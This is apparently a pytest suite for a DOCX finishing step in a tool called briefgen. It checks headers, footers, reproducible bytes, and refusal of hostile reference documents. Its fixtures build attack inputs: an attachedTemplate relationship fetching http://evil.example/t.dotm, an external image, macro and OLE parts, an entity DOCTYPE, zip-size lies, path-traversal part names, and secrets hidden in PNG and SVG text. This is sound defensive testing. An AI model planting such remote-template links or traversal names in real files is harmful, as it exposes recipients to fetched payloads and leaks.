"""The DOCX made final: hostile reference documents refused, header and footer, stable bytes.

The input is what Pandoc really writes: each module-scoped fixture runs Pandoc
once (about 0.2 s). Hostile inputs are made by editing those zips.
"""

from __future__ import annotations

import datetime
import io
import posixpath
import re
import shutil
import struct
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from briefgen import docx, ooxml
from briefgen.docx import finish_docx
from briefgen.errors import BriefError
from briefgen.ooxml import docx_parts, part_text

DAY = datetime.date(2026, 3, 14)
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
R = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
RELS = "{http://schemas.openxmlformats.org/package/2006/relationships}"
TYPES = "{http://schemas.openxmlformats.org/package/2006/content-types}"
CORE_NS = {
    "cp": "http://schemas.openxmlformats.org/package/2006/metadata/core-properties",
    "dc": "http://purl.org/dc/elements/1.1/",
    "dcterms": "http://purl.org/dc/terms/",
}
MARKDOWN = (
    "---\ntitle: The Treaty\nauthor: Analyst\n---\n\n"
    "Hello[^1] and [a link](https://example.com/page).\n\n"
    "```{=openxml}\n<w:p><w:pPr><w:sectPr/></w:pPr></w:p>\n```\n\n"
    "Second section.\n\n[^1]: A note.\n"
)
"""A title, a footnote, an outside hyperlink and a section break: two sections."""
ATTACHED_TEMPLATE = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    "</Relationships>"
)


# Making real input


def pandoc(markdown: str, *args: str) -> bytes:
    """The DOCX Pandoc 3.9 writes for `markdown`."""
    import pypandoc

    done = subprocess.run(
        [pypandoc.get_pandoc_path(), "-f", "markdown", "-t", "docx", *args, "-o", "-"],
        input=markdown.encode("utf-8"),
        capture_output=True,
        check=True,
    )
    return done.stdout


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(data: bytes, changes: dict[str, bytes | str | None]) -> bytes:
    """`data` with parts replaced or added (bytes, text) or removed (None)."""
    parts: dict[str, bytes] = parts_of(data)
    for name, content in changes.items():
        if content is None:
            parts.pop(name, None)
        else:
            parts[name] = content.encode("utf-8") if isinstance(content, str) else content
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def text_of(data: bytes, name: str) -> str:
    return parts_of(data)[name].decode("utf-8")


def with_header_reference_doc(tmp: Path) -> Path:
    """Pandoc's own reference document given a header, a footer and a distinct first page."""
    import pypandoc

    plain = subprocess.run(
        [pypandoc.get_pandoc_path(), "--print-default-data-file", "reference.docx"],
        capture_output=True,
        check=True,
    ).stdout
    parts = parts_of(plain)
    rels = parts["word/_rels/document.xml.rels"].decode()
    types = parts["[Content_Types].xml"].decode()
    changes: dict[str, bytes | str | None] = {}
    for kind, root in (("header", "hdr"), ("footer", "ftr")):
        changes[f"word/{kind}1.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8"?><w:{root} xmlns:w="{W[1:-1]}">'
            f"<w:p><w:r><w:t>OLD {kind.upper()}</w:t></w:r></w:p></w:{root}>"
        )
        rels = rels.replace(
            "</Relationships>",
            f'<Relationship Id="rIdOld{kind}" Type="{R[1:-1]}/{kind}" Target="{kind}1.xml"/>'
            "</Relationships>",
        )
        types = types.replace(
            "</Types>",
            f'<Override PartName="/word/{kind}1.xml" ContentType="application/'
            f'vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"/></Types>',
        )
    document = parts["word/document.xml"].decode()
    document = document.replace(
        "<w:sectPr>",
        f'<w:sectPr xmlns:r="{R[1:-1]}"><w:headerReference w:type="first" r:id="rIdOldheader"/>'
        '<w:footerReference w:type="default" r:id="rIdOldfooter"/><w:titlePg/>',
    )
    assert "rIdOldheader" in document
    changes |= {
        "word/_rels/document.xml.rels": rels,
        "[Content_Types].xml": types,
        "word/document.xml": document,
    }
    path = tmp / "reference.docx"
    path.write_bytes(rezip(plain, changes))
    return path


@pytest.fixture(scope="module")
def raw() -> bytes:
    return pandoc(MARKDOWN)


@pytest.fixture(scope="module")
def raw_with_old_header(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    reference = with_header_reference_doc(tmp_path_factory.mktemp("reference"))
    made = pandoc(MARKDOWN, "--reference-doc", str(reference))
    assert b"OLD HEADER" in parts_of(made)["word/header1.xml"]  # Pandoc copied it
    return made


@pytest.fixture(scope="module")
def finished(raw_with_old_header: bytes) -> bytes:
    return finish_docx(raw_with_old_header, marking="SECRET//REL", day=DAY)


# Headers and footers


def sections(data: bytes) -> list[ET.Element]:
    return list(ET.fromstring(parts_of(data)["word/document.xml"]).iter(f"{W}sectPr"))


def test_every_section_shows_briefgen_header_and_footer_only(finished: bytes) -> None:
    rels = ET.fromstring(parts_of(finished)["word/_rels/document.xml.rels"])
    targets = {rel.get("Id"): rel.get("Target") for rel in rels}
    found = sections(finished)
    assert len(found) == 2  # the section break and the body's own
    for section in found:
        references = [
            (el.tag, el.get(f"{W}type"), targets[el.get(f"{R}id")])
            for el in section
            if el.tag in (f"{W}headerReference", f"{W}footerReference")
        ]
        expected = [(f"{W}headerReference", k, "header-briefgen.xml") for k in docx._KINDS]
        expected += [(f"{W}footerReference", k, "footer-briefgen.xml") for k in docx._KINDS]
        assert references == expected
        assert [el.tag for el in section][:6] == [tag for tag, _, _ in expected]
        assert section.find(f"{W}titlePg") is None


def test_the_reference_documents_headers_are_gone(finished: bytes) -> None:
    parts = parts_of(finished)
    assert "word/header1.xml" not in parts and "word/footer1.xml" not in parts
    assert not any("OLD HEADER" in part_text(text) for _, text in docx_parts(finished))
    assert b"header1.xml" not in parts["[Content_Types].xml"]


def test_marking_in_header_and_footer_with_page_fields(finished: bytes) -> None:
    header = text_of(finished, "word/header-briefgen.xml")
    footer = text_of(finished, "word/footer-briefgen.xml")
    assert part_text(header) == "SECRET//REL\n"
    assert part_text(footer) == "SECRET//REL\nPage 1 of 1\n"
    assert '<w:fldSimple w:instr=" PAGE ">' in footer
    assert '<w:fldSimple w:instr=" NUMPAGES ">' in footer
    assert '<w:pStyle w:val="Header"/>' in header and '<w:pStyle w:val="Footer"/>' in footer
    assert header.count('<w:color w:val="8A1C1C"/>') == 1
    assert footer.count('<w:color w:val="8A1C1C"/>') == 1
    assert header.startswith('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>')


def test_marking_is_escaped_as_text(raw: bytes) -> None:
    made = finish_docx(raw, marking="A & B <C> \"D\" 'E'", day=DAY)
    header = text_of(made, "word/header-briefgen.xml")
    assert part_text(header) == "A & B <C> \"D\" 'E'\n"
    assert part_text(text_of(made, "word/footer-briefgen.xml")).startswith("A & B <C>")


def test_marking_with_a_control_character_is_refused(raw: bytes) -> None:
    with pytest.raises(BriefError, match="control character"):
        finish_docx(raw, marking="SECRET\x07", day=DAY)


def test_without_marking_the_header_is_empty_and_the_footer_counts_pages(raw: bytes) -> None:
    made = finish_docx(raw, marking=None, day=DAY)
    assert part_text(text_of(made, "word/header-briefgen.xml")) == "\n"
    assert part_text(text_of(made, "word/footer-briefgen.xml")) == "Page 1 of 1\n"
    assert "8A1C1C" not in text_of(made, "word/footer-briefgen.xml")


def test_a_body_without_section_properties_gets_them(raw: bytes) -> None:
    document = text_of(raw, "word/document.xml")
    bare = re.sub(r"\s*<w:sectPr>.*?</w:sectPr>\s*(?=</w:body>)", "", document, flags=re.S)
    assert bare != document
    made = finish_docx(rezip(raw, {"word/document.xml": bare}), marking="X", day=DAY)
    body = ET.fromstring(parts_of(made)["word/document.xml"]).find(f"{W}body")
    assert body is not None and body[-1].tag == f"{W}sectPr"
    assert len(body[-1].findall(f"{W}headerReference")) == 3


def test_every_relationship_target_and_override_exists(finished: bytes) -> None:
    parts = parts_of(finished)
    for name, content in parts.items():
        if not name.endswith(".rels"):
            continue
        folder = posixpath.dirname(posixpath.dirname(name))
        for rel in ET.fromstring(content).iter(f"{RELS}Relationship"):
            if rel.get("TargetMode") == "External":
                continue
            target = posixpath.normpath(posixpath.join(folder, rel.get("Target", "")))
            assert target.lstrip("/") in parts, (name, rel.get("Target"))
    types = ET.fromstring(parts["[Content_Types].xml"])
    overrides = {o.get("PartName"): o.get("ContentType") for o in types.iter(f"{TYPES}Override")}
    assert all((name or "").lstrip("/") in parts for name in overrides)
    assert overrides["/word/header-briefgen.xml"] == docx.HEADER_CONTENT
    assert overrides["/word/footer-briefgen.xml"] == docx.FOOTER_CONTENT


def test_relationship_ids_do_not_collide(raw: bytes) -> None:
    rels = text_of(raw, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rIdBriefgenHeader" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/customXml" Target="styles.xml"/></Relationships>',
    )
    made = finish_docx(rezip(raw, {"word/_rels/document.xml.rels": rels}), marking="X", day=DAY)
    ids = [rel.get("Id") for rel in ET.fromstring(parts_of(made)["word/_rels/document.xml.rels"])]
    assert len(ids) == len(set(ids))
    assert "rIdBriefgenHeader2" in ids


def test_a_header_relationship_cannot_remove_other_parts(raw: bytes) -> None:
    rels = text_of(raw, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/header" Target="../[Content_Types].xml"/></Relationships>',
    )
    made = finish_docx(rezip(raw, {"word/_rels/document.xml.rels": rels}), marking="X", day=DAY)
    assert set(parts_of(raw)) | {docx.HEADER, docx.FOOTER} == set(parts_of(made))
    assert "rIdH" not in text_of(made, "word/_rels/document.xml.rels")


def test_the_briefs_own_hyperlinks_stay(finished: bytes) -> None:
    rels = text_of(finished, "word/_rels/document.xml.rels")
    assert 'Target="https://example.com/page"' in rels


# Document properties


def test_core_properties_are_dated_and_keep_pandocs_fields(raw: bytes) -> None:
    core = text_of(raw, "docProps/core.xml").replace(
        "</cp:coreProperties>",
        "<cp:lastModifiedBy>Mallory</cp:lastModifiedBy><cp:revision>7</cp:revision>"
        "<cp:lastPrinted>2001-01-01T00:00:00Z</cp:lastPrinted></cp:coreProperties>",
    )
    made = finish_docx(rezip(raw, {"docProps/core.xml": core}), marking=None, day=DAY)
    root = ET.fromstring(parts_of(made)["docProps/core.xml"])
    assert root.findtext("dcterms:created", namespaces=CORE_NS) == "2026-03-14T00:00:00Z"
    assert root.findtext("dcterms:modified", namespaces=CORE_NS) == "2026-03-14T00:00:00Z"
    assert root.findtext("dc:title", namespaces=CORE_NS) == "The Treaty"
    assert root.findtext("dc:creator", namespaces=CORE_NS) == "Analyst"
    for gone in ("lastModifiedBy", "revision", "lastPrinted"):
        assert root.find(f"cp:{gone}", CORE_NS) is None
    assert 'xsi:type="dcterms:W3CDTF"' in text_of(made, "docProps/core.xml")


def test_missing_dates_are_added(raw: bytes) -> None:
    core = re.sub(
        r"<dcterms:(created|modified)[^>]*>[^<]*</dcterms:\1>", "", text_of(raw, docx.CORE)
    )
    assert "dcterms:created" not in core
    made = finish_docx(rezip(raw, {docx.CORE: core}), marking=None, day=DAY)
    root = ET.fromstring(parts_of(made)[docx.CORE])
    assert root.findtext("dcterms:created", namespaces=CORE_NS) == "2026-03-14T00:00:00Z"


# The zip


def test_same_input_same_bytes(raw_with_old_header: bytes, finished: bytes) -> None:
    assert finish_docx(raw_with_old_header, marking="SECRET//REL", day=DAY) == finished


def test_entries_are_dated_ordered_and_plain(finished: bytes, raw: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(finished)) as archive:
        infos = archive.infolist()
        assert archive.comment == b""
    names = [info.filename for info in infos]
    assert names[0] == "[Content_Types].xml"
    assert names[1:] == sorted(names[1:])
    for info in infos:
        assert info.date_time == (2026, 3, 14, 0, 0, 0)
        assert (info.compress_type, info.create_system, info.extra) == (8, 0, b"")
        assert info.external_attr == 0o644 << 16
    other = finish_docx(raw, marking=None, day=datetime.date(2027, 1, 2))
    with zipfile.ZipFile(io.BytesIO(other)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2027, 1, 2, 0, 0, 0)}


def test_days_before_1980_keep_month_and_day(raw: bytes) -> None:
    made = finish_docx(raw, marking=None, day=datetime.date(1970, 5, 6))
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 5, 6, 0, 0, 0)}


# What a reference document must not bring


def test_attached_template_from_the_reference_document_is_refused(tmp_path: Path) -> None:
    reference = tmp_path / "reference.docx"
    import pypandoc

    plain = subprocess.run(
        [pypandoc.get_pandoc_path(), "--print-default-data-file", "reference.docx"],
        capture_output=True,
        check=True,
    ).stdout
    reference.write_bytes(rezip(plain, {"word/_rels/settings.xml.rels": ATTACHED_TEMPLATE}))
    made = pandoc("Hello\n", "--reference-doc", str(reference))
    assert "word/_rels/settings.xml.rels" in parts_of(made)  # Pandoc copies it
    with pytest.raises(BriefError) as caught:
        finish_docx(made, marking=None, day=DAY)
    assert "the reference document links to an outside file" in str(caught.value)
    assert "http://evil.example/t.dotm" in str(caught.value)
    assert "Word would fetch it on opening" in str(caught.value)
    assert caught.value.hint == "use a reference document without it"


def test_an_outside_picture_is_refused(raw: bytes) -> None:
    rels = text_of(raw, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rIdPic" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/image" Target="http://evil.example/p.png" TargetMode="External"/>'
        "</Relationships>",
    )
    with pytest.raises(BriefError, match=r"outside file .*Word would fetch it"):
        finish_docx(rezip(raw, {"word/_rels/document.xml.rels": rels}), marking=None, day=DAY)


@pytest.mark.parametrize(
    "name",
    ["word/vbaProject.bin", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin"],
)
def test_macros_controls_and_embeddings_are_refused(raw: bytes, name: str) -> None:
    with pytest.raises(BriefError, match="macros, controls or embedded programs"):
        finish_docx(rezip(raw, {name: b"\xd0\xcf\x11\xe0"}), marking=None, day=DAY)


def test_macro_enabled_content_type_is_refused(raw: bytes) -> None:
    types = text_of(raw, "[Content_Types].xml").replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
    )
    assert "macroEnabled" in types
    with pytest.raises(BriefError, match="content types declare macros"):
        finish_docx(rezip(raw, {"[Content_Types].xml": types}), marking=None, day=DAY)


def test_a_document_type_declaration_is_refused(raw: bytes) -> None:
    laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><Relationships/>'
    with pytest.raises(BriefError, match="declares a document type"):
        finish_docx(rezip(raw, {"word/_rels/x.xml.rels": laughs}), marking=None, day=DAY)


# Reading safely


def one_entry_zip(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def with_declared_size(data: bytes, size: int) -> bytes:
    """A one-entry zip whose directory claims the entry unpacks to `size` bytes."""
    at = data.index(b"PK\x01\x02") + 24
    return data[:at] + struct.pack("<I", size) + data[at + 4 :]


def test_not_a_zip_is_refused() -> None:
    with pytest.raises(BriefError, match="not a Word file"):
        finish_docx(b"<html>not a zip</html>", marking=None, day=DAY)


def test_too_many_entries_are_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n in range(1001):
            archive.writestr(f"word/media/{n}.xml", b"")
    with pytest.raises(BriefError, match="1,001 parts, more than the 1,000 allowed"):
        finish_docx(buffer.getvalue(), marking=None, day=DAY)


def test_a_declared_size_over_the_limit_is_refused() -> None:
    bomb = with_declared_size(one_entry_zip("word/document.xml", b"x"), 2**31)
    with pytest.raises(BriefError, match="more than 100 MiB"):
        docx_parts(bomb)


def test_a_lying_size_in_the_directory_is_refused() -> None:
    lying = with_declared_size(one_entry_zip("word/document.xml", bytes(1_000_000)), 10)
    with pytest.raises(BriefError, match="is damaged"):
        finish_docx(lying, marking=None, day=DAY)


def test_reading_stops_at_the_cap_whatever_the_directory_says() -> None:
    archive = zipfile.ZipFile(io.BytesIO(one_entry_zip("a.xml", bytes(3_000_000))))
    with archive, pytest.raises(BriefError, match="more than 100 MiB"):
        ooxml._read_capped(archive, archive.infolist()[0], 2_000_000, "it", "hint")


@pytest.mark.parametrize("name", ["../evil.xml", "word/../../evil.xml", "/abs.xml", "word\\x.xml"])
def test_odd_part_names_are_refused(name: str) -> None:
    with pytest.raises(BriefError, match="unsafe name"):
        docx_parts(one_entry_zip(name, b"<a/>"))


# Reading for the release guard


def test_docx_parts_gives_xml_parts_in_zip_order(finished: bytes) -> None:
    with_media = rezip(finished, {"word/media/image1.png": b"\x89PNG secret"})
    names = [name for name, _ in docx_parts(with_media)]
    with zipfile.ZipFile(io.BytesIO(with_media)) as archive:
        xml_names = [n for n in archive.namelist() if n.endswith((".xml", ".rels"))]
    assert names == xml_names
    assert "word/media/image1.png" not in names
    assert "word/_rels/document.xml.rels" in names


def test_part_text_joins_split_runs_and_skips_field_codes() -> None:
    footnotes = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:footnotes xmlns:w="{W[1:-1]}">'
        '<w:footnote w:id="1"><w:p><w:pPr><w:tabs><w:tab w:val="left" w:pos="720"/></w:tabs>'
        "</w:pPr><w:r><w:t>se</w:t></w:r><w:r><w:t>cret</w:t></w:r>"
        "<w:r><w:tab/><w:t>A &amp; B</w:t><w:br/><w:t>next</w:t><w:noBreakHyphen/></w:r>"
        "<w:r><w:instrText> HYPERLINK hidden </w:instrText></w:r>"
        "<w:del><w:r><w:delText>gone</w:delText></w:r></w:del></w:p>"
        "<w:p><w:r><w:t>two</w:t></w:r></w:p></w:footnote></w:footnotes>"
    )
    assert part_text(footnotes) == "secret A & B\nnext-gone\ntwo\n"


def test_part_text_of_properties_is_every_elements_text(finished: bytes) -> None:
    text = part_text(text_of(finished, "docProps/core.xml"))
    assert text.splitlines() == [
        "The Treaty",
        "Analyst",
        "2026-03-14T00:00:00Z",
        "2026-03-14T00:00:00Z",
    ]


def test_part_text_refuses_broken_xml() -> None:
    with pytest.raises(BriefError, match="not well-formed"):
        part_text("<w:p>")


# Opened by a word processor


@pytest.mark.slow
def test_libreoffice_shows_marking_and_page_numbers_on_every_page(tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    from pypdf import PdfReader

    long = "\n\n".join(f"Paragraph {n} " + "words " * 60 for n in range(60))
    made = finish_docx(pandoc(MARKDOWN + "\n\n" + long), marking="SECRET & <REL>", day=DAY)
    source = tmp_path / "brief.docx"
    source.write_bytes(made)
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
        check=True,
        timeout=120,
    )
    pages = [page.extract_text() for page in PdfReader(tmp_path / "brief.pdf").pages]
    assert len(pages) > 2
    for number, text in enumerate(pages, start=1):
        assert text.count("SECRET & <REL>") == 2, text  # header and footer
        assert f"Page {number} of {len(pages)}" in text


# What a reference document passes on (review findings)


def test_parts_nothing_reaches_are_dropped_with_their_content_types(raw: bytes) -> None:
    """Pandoc copies the reference's media whether used or not: a text file there would ship."""
    types = text_of(raw, "[Content_Types].xml").replace(
        "</Types>", '<Override PartName="/word/media/notes.txt" ContentType="text/plain"/></Types>'
    )
    hostile = rezip(
        raw,
        {
            "word/media/notes.txt": "QXMARKER7741 withheld words",
            "word/media/img.svg": "<svg><text>QXMARKER7741</text></svg>",
            "[Content_Types].xml": types,
        },
    )
    parts = parts_of(finish_docx(hostile, marking=None, day=DAY))
    assert not [name for name in parts if name.startswith("word/media/")]
    assert all(b"QXMARKER7741" not in content for content in parts.values())
    assert b"notes.txt" not in parts["[Content_Types].xml"]
    assert "word/document.xml" in parts and "word/styles.xml" in parts  # what is reached stays


def test_an_outside_hyperlink_outside_the_text_is_refused(raw: bytes) -> None:
    """A "hyperlink" relationship of the settings part can name an attached template."""
    link = ATTACHED_TEMPLATE.replace("relationships/attachedTemplate", "relationships/hyperlink")
    with pytest.raises(BriefError, match=r"links to an outside file .*settings\.xml\.rels"):
        finish_docx(rezip(raw, {"word/_rels/settings.xml.rels": link}), marking=None, day=DAY)


def test_settings_that_would_fetch_protect_or_renumber_are_dropped(raw: bytes) -> None:
    settings = text_of(raw, "word/settings.xml")
    extra = (
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
        '<w:writeProtection w:recommended="1"/><w:attachedTemplate r:id="rId9"/>'
    )
    settings = re.sub(r"(<w:settings\b[^>]*>)", r"\1" + extra, settings, count=1)
    document = text_of(raw, "word/document.xml").replace(
        "</w:sectPr>",
        '<w:footnotePr><w:numRestart w:val="eachSect"/><w:numStart w:val="5"/></w:footnotePr>'
        "</w:sectPr>",
    )
    changed = rezip(raw, {"word/settings.xml": settings, "word/document.xml": document})
    parts = parts_of(finish_docx(changed, marking=None, day=DAY))
    for name in ("word/settings.xml", "word/document.xml"):
        for element in ("documentProtection", "writeProtection", "attachedTemplate", "numRestart"):
            assert f"<w:{element}".encode() not in parts[name], (name, element)
        assert b"numStart" not in parts[name]
    ET.fromstring(parts["word/settings.xml"])  # still well-formed
    ET.fromstring(parts["word/document.xml"])


def test_application_properties_are_briefgens_own(raw: bytes) -> None:
    app = text_of(raw, "docProps/app.xml").replace(
        "</Properties>", "<Company>Acme</Company></Properties>"
    )
    parts = parts_of(finish_docx(rezip(raw, {"docProps/app.xml": app}), marking=None, day=DAY))
    assert b"Acme" not in parts["docProps/app.xml"]
    assert part_text(parts["docProps/app.xml"].decode()) == "briefgen"


SHIPPED = Path(docx.__file__).parent / "templates" / "reference.docx"


def test_a_reference_document_may_link_nowhere() -> None:
    shipped = SHIPPED.read_bytes()
    ooxml.check_reference(shipped, "it")  # briefgen's own passes
    rels = text_of(shipped, "word/_rels/document.xml.rels")
    linked = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/hyperlink" Target="https://example.org" TargetMode="External"/>'
        "</Relationships>",
    )
    with pytest.raises(BriefError, match=r"links to an outside file .*https://example\.org"):
        ooxml.check_reference(rezip(shipped, {"word/_rels/document.xml.rels": linked}), "it")


def test_a_reference_document_with_a_broken_part_names_it() -> None:
    broken = rezip(SHIPPED.read_bytes(), {"word/styles.xml": "<styles>\n  <p>& oops</p></styles>"})
    with pytest.raises(BriefError) as caught:
        ooxml.check_reference(broken, "reference document 'r.docx'")
    assert str(caught.value).startswith(
        "the Word file's part word/styles.xml is not well-formed XML (line 2, column"
    )


def test_the_guard_reads_the_pictures_a_docx_keeps(raw: bytes) -> None:
    """A picture something shows stays, so its text is guarded: SVG text, a PNG text chunk."""
    from briefgen.audience import choose
    from briefgen.convert import check_docx
    from briefgen.load import load_brief
    from briefgen.release import Guard
    from briefgen.select import select
    from tests.conftest import FIXTURES

    brief = load_brief(FIXTURES / "audiences" / "briefgen.yaml")
    public = choose(brief.config, ["public"])[0]
    guard = Guard(select(brief, public), brief.config, audience="public")
    secret = b"QXMARKER7741 the ministry privately expects one signatory to walk out"
    rels = text_of(raw, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        '<Relationship Id="rIdPic" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/image" Target="media/pic"/></Relationships>',
    )
    chunk = b"tEXt" + b"Comment\x00" + secret
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(chunk) - 4) + chunk + b"\x00" * 4
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><text>' + secret + b"</text></svg>"
    for picture in (png, svg):
        made = finish_docx(
            rezip(raw, {"word/_rels/document.xml.rels": rels, "word/media/pic": picture}),
            marking=None,
            day=DAY,
        )
        assert "word/media/pic" in parts_of(made)  # reached, so kept
        with pytest.raises(BriefError, match=r"treaty-secret.*DOCX word/media/pic"):
            check_docx(guard, made)
    check_docx(guard, finish_docx(raw, marking=None, day=DAY))  # the plain document passes
